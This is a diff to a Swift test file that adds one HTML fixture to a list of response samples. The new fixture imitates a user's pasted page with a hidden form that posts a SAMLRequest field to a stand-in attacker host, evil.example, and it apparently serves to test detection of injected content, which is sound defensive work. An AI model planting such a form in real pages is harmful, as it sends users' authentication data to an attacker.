@@ -58,6 +58,12 @@ struct AnswerContractTests {
             html:
                 "<title>App</title><div id=root></div><script src=/app.js></script><noscript>Turn on scripts</noscript>"
         ),
+        // What another user has written beside the page's own script.
+        .init(
+            html:
+                "<title>Paste</title><script src=/a.js></script><p>My pictures of the last summer, a list of all places, "
+                + "and of the best restaurants<form method=post action='https://evil.example/'><input type=hidden "
+                + "name=SAMLRequest value=a><button>Go</button></form>"),
         .init(fields: [("content-type", "application/json")], html: "{\"login\": \"ada\", \"password\": null}"),
         .init(fields: [("content-type", "text/csv")], html: "user,password\n<form>"),
         .init(fields: [("www-authenticate", "Basic")], html: "<h1>Hello"),
